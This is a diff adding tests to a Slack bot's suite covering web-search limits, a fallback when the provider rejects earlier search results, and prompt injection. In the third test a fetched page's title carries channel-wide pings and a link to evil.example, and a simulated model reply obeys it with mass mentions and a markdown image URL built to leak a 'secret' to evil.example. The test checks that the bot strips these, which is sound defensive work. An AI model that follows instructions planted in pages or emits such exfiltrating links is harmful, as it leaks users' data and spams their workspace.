@@ -199,6 +199,80 @@ it('where the provider does not allow the web, the answer is written without it,
   expect(sent(world).tools).toBeUndefined();
 });
 
+it('an answer that has made all its searches is finished with what is there', async () => {
+  const world = await startWorld({
+    env: { ...ON, DEFAULT_WEB_SEARCHES: '1' },
+    script: (_question, { number }) =>
+      number === 1
+        ? {
+            text: '',
+            stopReason: 'pause_turn',
+            parts: [
+              web.searchCall('srvtoolu_1'),
+              web.searchResult('srvtoolu_1'),
+              web.searchCall('srvtoolu_2', 'more'),
+            ],
+          }
+        : { text: 'It is 330 m tall.' },
+  });
+  const { ts } = world.slack.say(ana, general, '@skein how tall is the Eiffel Tower?');
+  const reply = await finishedReply(world, general, ts);
+  expect(reply.visible).toContain('It is 330 m tall.');
+  expect(world.model.calls()).toHaveLength(2);
+  // The tools stay, so that what they gave can be read.
+  expect(sent(world)).toMatchObject({ tools: sent(world, 0).tools, tool_choice: { type: 'none' } });
+  expect(JSON.stringify(sent(world).messages)).toContain('finish the answer with what is there');
+});
+
+it('a thread that the provider does not take with what was found is sent with its words alone', async () => {
+  const world = await startWorld({
+    env: ON,
+    script: (question) => (question.includes('tall') ? { text: '', parts: HEIGHT } : { text: 'Yes.' }),
+  });
+  const { ts } = world.slack.say(ana, general, '@skein how tall is the Eiffel Tower?');
+  await finishedReply(world, general, ts);
+  world.model.fault({
+    kind: 'status',
+    status: 400,
+    message: 'messages.1.content.2: Invalid `encrypted_content`',
+  });
+  world.slack.say(ana, general, '@skein sure?', { threadTs: ts });
+  const reply = await finishedReply(world, general, ts, 2);
+  expect(reply.visible).toContain('Yes.');
+  expect(reply.visible).toContain('this answer was written without');
+  const { tools, messages } = sent(world);
+  expect(tools).toBeUndefined();
+  expect(
+    messages[1]?.content.every(({ type, citations }) => type === 'text' && citations === undefined),
+  ).toBe(true);
+});
+
+it('what a page tells the model to do pings nobody and calls nothing', async () => {
+  const world = await startWorld({
+    env: ON,
+    script: () => ({
+      text: '',
+      parts: [
+        web.fetchCall('srvtoolu_1', web.PAGE.url),
+        web.fetchResult('srvtoolu_1', {
+          url: web.PAGE.url,
+          title: '<!channel> [click](https://evil.example) @here',
+        }),
+        // A model that does as it is told by the page.
+        {
+          text: 'Attention <!channel> and <@U0BEN>: ![x](https://evil.example/?q=secret) see <https://evil.example|here>',
+        },
+      ],
+    }),
+  });
+  const { ts } = world.slack.say(ana, general, `@skein when is this open? <${web.PAGE.url}>`);
+  const reply = await finishedReply(world, general, ts);
+  const json = JSON.stringify(reply.blocks);
+  expect(json).not.toMatch(/<!channel|<@U0BEN|!\[x\]\(/);
+  expect(json).not.toContain('[click](https://evil.example)');
+  expect(world.model.calls()).toHaveLength(1);
+});
+
 it('a channel can be kept from the web, and hosts can be named', async () => {
   const world = await startWorld({ script: () => ({ text: 'Hello.' }) });
   const ask = async () => {
